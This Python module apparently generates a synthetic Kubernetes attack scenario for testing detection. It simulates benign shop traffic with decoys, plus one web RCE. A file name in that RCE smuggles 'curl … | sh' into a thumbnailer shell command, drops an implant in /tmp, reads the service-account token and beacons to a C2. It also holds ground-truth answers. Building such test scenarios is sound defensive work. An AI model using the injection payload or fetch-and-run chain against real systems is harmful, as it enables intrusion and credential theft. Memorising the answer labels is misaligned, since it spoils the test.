"""Web RCE through the ingress: an upload's file name injects a command into the shop
frontend's thumbnailer (``sh -c "convert …"``); the injected pipe fetches a dropper that pulls
an implant into ``/tmp``, which reads the service-account token and beacons to its C2.

Look-alikes: the same frontend runs ``sh -c "convert …"`` for every upload, calls a payment
API outside the cluster all day, and the ingress brings requests from many addresses."""

from __future__ import annotations

from pathlib import Path

from .. import falco as fc
from . import Scenario
from .kit import (
    MAY_READ,
    MS,
    NS,
    command,
    connect_out,
    every,
    file_hook,
    finish,
    ingress_controller,
    pod_ref,
    run,
    via_ingress,
    world,
)
from .truth import Endpoint, Truth

NAME = "web-rce"
DESCRIPTION = ("An upload's file name injects a command into the shop frontend's thumbnailer "
               "(sh -c \"convert ...\"); a dropper from outside pulls an implant into /tmp, which "
               "reads the service-account token and beacons to its C2 over 443.")
PAYMENTS = ("54.187.216.72", "api.paymentsprovider.com")
DROP = ("203.0.113.80", 80)
C2 = ("192.0.2.44", 443, "cdn-static.cloudsync-update.net")
TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"


def build(out_dir: Path, seed: int) -> Truth:
    """Write the capture; see the module docstring."""
    w = world(seed, minutes=25)
    rng = w.rng
    c = w.sim.cluster
    _, nginx = ingress_controller(w, w.node(1))
    fronts = c.pods_of("frontend")
    clients = [f"{rng.choice([81, 88, 91, 109, 176, 212])}.{rng.randint(1, 254)}."
               f"{rng.randint(1, 254)}.{rng.randint(1, 254)}" for _ in range(40)]

    # ordinary life of the shop: pages, uploads (each one thumbnailed), the payment API
    for t in every(w, 4):
        fe = rng.choice(fronts)
        path = rng.choice(["/", "/api/products", "/api/products?page=2", "/api/cart",
                           "/static/app.js"])
        via_ingress(w, nginx, rng.choice(clients), fe, 8080, t,
                    "GET" if "cart" not in path else rng.choice(["GET", "POST"]),
                    f"http://shop.acme.example{path}")
    for fe in fronts:
        main = w.sim.pod_proc(fe)
        for t in every(w, 45):
            connect_out(w, main, t, PAYMENTS[0], 443, PAYMENTS[1], dur_ms=rng.randint(80, 400))
        for t in every(w, 150):
            n = rng.randint(10**5, 10**6)
            end = via_ingress(w, nginx, rng.choice(clients), fe, 8080, t, "POST",
                              f"http://shop.acme.example/api/upload?name=IMG_{n}.png", 201)
            sh = run(w, main, end + 3 * MS, "/bin/sh",
                     f"-c convert /tmp/upload-{n}.png -resize 256x256 /tmp/thumb-{n}.png",
                     exit_=False)
            run(w, sh, sh.start_ns + 2 * MS, "/usr/bin/convert",
                f"/tmp/upload-{n}.png -resize 256x256 /tmp/thumb-{n}.png",
                dur_ms=rng.randint(60, 300))
            w.sim.exit_(sh, sh.start_ns + 400 * MS)

    # the attack
    fe = fronts[rng.randrange(len(fronts))]
    main = w.sim.pod_proc(fe)
    attacker = "198.51.100.23"
    t0 = w.at(11 + rng.random())
    # reconnaissance through the site first
    for i, path in enumerate(["/api/upload?name=a.png", "/robots.txt", "/api/upload?name=%60id%60.png"]):
        via_ingress(w, nginx, attacker, fe, 8080, t0 + i * 7 * NS, "POST" if "upload" in path
                    else "GET", f"http://shop.acme.example{path}", 201 if "upload" in path else 404,
                    "python-requests/2.31.0", critical=True)
    ts = t0 + 40 * NS
    inj = "x.png;curl -s http://203.0.113.80/s|sh;#.png"
    end = via_ingress(w, nginx, attacker, fe, 8080, ts, "POST",
                      "http://shop.acme.example/api/upload?name=x.png%3Bcurl%20-s%20http%3A%2F%2F"
                      "203.0.113.80%2Fs%7Csh%3B%23.png", 201, "python-requests/2.31.0",
                      critical=True)
    n = rng.randint(10**5, 10**6)
    sh = run(w, main, end + 3 * MS, "/bin/sh",
             f"-c convert /tmp/upload-{n}.png -resize 256x256 /tmp/thumb-{inj}", exit_=False,
             critical=True)
    run(w, sh, sh.start_ns + 2 * MS, "/usr/bin/convert",
        f"/tmp/upload-{n}.png -resize 256x256 /tmp/thumb-x.png", dur_ms=90, critical=True)
    t = sh.start_ns + 120 * MS
    curl1 = run(w, sh, t, "/usr/bin/curl", f"-s http://{DROP[0]}/s", exit_=False, critical=True)
    end = connect_out(w, curl1, t + MS, DROP[0], DROP[1], dur_ms=180, critical=True)
    w.sim.exit_(curl1, end + MS, critical=True)
    sh2 = run(w, sh, t + 2 * MS, "/bin/sh", "", exit_=False, critical=True)
    t = end + 5 * MS
    curl2 = run(w, sh2, t, "/usr/bin/curl", f"-so /tmp/.ICE-unix/kdevtmpfs http://{DROP[0]}/k",
                exit_=False, critical=True)
    end = connect_out(w, curl2, t + MS, DROP[0], DROP[1], dur_ms=900, critical=True)
    w.sim.exit_(curl2, end + MS, critical=True)
    chmod = run(w, sh2, end + 3 * MS, "/bin/chmod", "+x /tmp/.ICE-unix/kdevtmpfs", 1,
                critical=True)
    implant = run(w, sh2, end + 6 * MS, "/tmp/.ICE-unix/kdevtmpfs", "", exit_=False,
                  critical=True)
    fc.emit_alert(w.sim.sink, implant, implant.start_ns + 200_000,
                  "Drop and execute new binary in container", critical=True)
    w.sim.exit_(sh2, implant.start_ns + 20 * MS, critical=True)
    w.sim.exit_(sh, implant.start_ns + 25 * MS, critical=True)
    file_hook(w, implant, implant.start_ns + 40 * MS, TOKEN, MAY_READ, critical=True)
    beacons = every(w, 60, implant.start_ns + 500 * MS, w.end - 30 * NS, jitter=0.05)
    for i, tb in enumerate(beacons):
        connect_out(w, implant, tb, C2[0], C2[1], C2[2] if i == 0 else "", dur_ms=350,
                    critical=True)

    return finish(w, out_dir, Truth(
        scenario=NAME, kind="attack", description=DESCRIPTION, seed=seed,
        entry=pod_ref(fe), key_command=command(implant), reached=[],
        endpoints=[Endpoint(DROP[0], DROP[1], "download"),
                   Endpoint(C2[0], C2[1], "c2", C2[2])],
        techniques=["T1190", "T1059.004", "T1105", "T1552.007", "T1071.001"],
        expected_incidents=1,
        attacker_exec_ids=[p.exec_id for p in (sh, curl1, sh2, curl2, chmod, implant)],
        decoys=["every upload runs sh -c 'convert ...' in the frontend",
                "the frontend calls api.paymentsprovider.com:443 all day",
                "requests from 40 client addresses through the ingress"]))


SCENARIO = Scenario(NAME, "attack", DESCRIPTION, build, seed=11)
